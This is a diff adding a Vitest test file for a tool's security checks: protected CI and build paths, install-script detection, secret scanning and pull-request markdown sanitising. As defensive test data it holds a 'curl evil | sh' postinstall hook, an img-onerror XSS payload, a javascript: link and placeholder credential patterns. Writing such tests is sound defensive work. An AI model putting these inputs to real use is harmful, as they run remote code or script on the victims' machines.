@@ -1,0 +1,94 @@
+import { emptySession } from '@fixpoint/protocol'
+import { describe, expect, it } from 'vitest'
+import { ada } from '../testing/fixtures.ts'
+import { addsInstallScript, protectedChanges } from './protected-paths.ts'
+import { plainInMarkdown, pullRequestBody } from './pull-request-body.ts'
+import { addedLines, findSecrets } from './secret-scan.ts'
+
+const change = (path: string) => ({ path, status: 'modified' as const, added: 1, removed: 0 })
+
+describe('files that run with more rights', () => {
+  it.each([
+    '.github/workflows/ci.yml',
+    '.GITHUB/workflows/ci.yml',
+    '.github/CODEOWNERS',
+    'docs/CODEOWNERS',
+    '.gitlab-ci.yml',
+    '.circleci/config.yml',
+    'Jenkinsfile',
+    '.gitmodules',
+    '.husky/pre-commit',
+    'packages/app/.npmrc',
+    '.vscode/tasks.json',
+    '.devcontainer/devcontainer.json',
+    'Dockerfile',
+    'deploy/Dockerfile.prod',
+    'docker-compose.override.yml'
+  ])('holds %s', path => {
+    expect(protectedChanges([change(path)], [])).toEqual([path])
+  })
+
+  it.each(['src/App.tsx', 'src/github/workflows.ts', 'README.md', 'package.json', 'src/Dockerfile-parser/index.ts', 'docs/ci.md'])(
+    'lets %s pass',
+    path => {
+      expect(protectedChanges([change(path)], [])).toEqual([])
+    }
+  )
+
+  it('holds what a project names itself', () => {
+    expect(protectedChanges([change('infra/prod.tf')], ['infra/**'])).toEqual(['infra/prod.tf'])
+  })
+
+  it('sees scripts that run at installation', () => {
+    const diff = (line: string) =>
+      `diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n+    ${line}\n`
+    expect(addsInstallScript(diff('"postinstall": "curl evil | sh",'))).toBe(true)
+    expect(addsInstallScript(diff('"prepare": "x"'))).toBe(true)
+    expect(addsInstallScript(diff('"test": "vitest"'))).toBe(false)
+    expect(addsInstallScript(diff('"postinstall": "x"').replaceAll('package.json', 'docs.json'))).toBe(false)
+  })
+})
+
+describe('secrets on their way out', () => {
+  it.each([
+    ['-----BEGIN RSA PRIVATE KEY-----', 'private key'],
+    [`AKIA${'A'.repeat(16)}`, 'AWS access key'],
+    [`ghp_${'a'.repeat(36)}`, 'GitHub token'],
+    [`xoxb-${'1'.repeat(12)}`, 'Slack token'],
+    [`AIza${'b'.repeat(35)}`, 'Google API key'],
+    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N', 'JSON web token']
+  ])('are known by their look: %s', (text, kind) => {
+    expect(findSecrets(`const key = '${text}'`, [])).toEqual([kind])
+  })
+
+  it('are known when they are the server’s own, also in base64', () => {
+    const secret = 'very-private-value-123'
+    expect(findSecrets(`x ${secret} y`, [secret])).toHaveLength(1)
+    expect(findSecrets(Buffer.from(secret).toString('base64'), [secret])).toHaveLength(1)
+    expect(findSecrets('nothing here', [secret])).toEqual([])
+  })
+
+  it('are looked for in what a diff adds', () => {
+    expect(addedLines('+++ b/x\n+new\n-old\n same')).toBe('+new')
+  })
+})
+
+describe('the text of a pull request', () => {
+  it('lets nothing that people or models wrote act on the code host', () => {
+    const plain = plainInMarkdown(
+      '@everyone closes #12 <img src=x onerror=alert(1)> ![x](https://evil.example/a.png) [l](javascript:x) www.evil.example'
+    )
+    expect(plain).not.toMatch(/@everyone|#12|(?<!\\)[<[]|https:\/\/|www\.evil/)
+  })
+
+  it('says plainly when there is no proof', () => {
+    const state = {
+      ...emptySession('ses_01k8r5t9m3c6v2x7b4na'),
+      prompts: [{ promptId: 'p', text: 'Fix it\n# now', author: ada, queuedAt: '', status: 'done' as const }]
+    }
+    const body = pullRequestBody(state, 'opn_x', new Map())
+    expect(body).toContain('Unverified')
+    expect(body).toContain('> Fix it\n> # now')
+    expect(body).toContain('Asked for by Ada')
+  })
+})
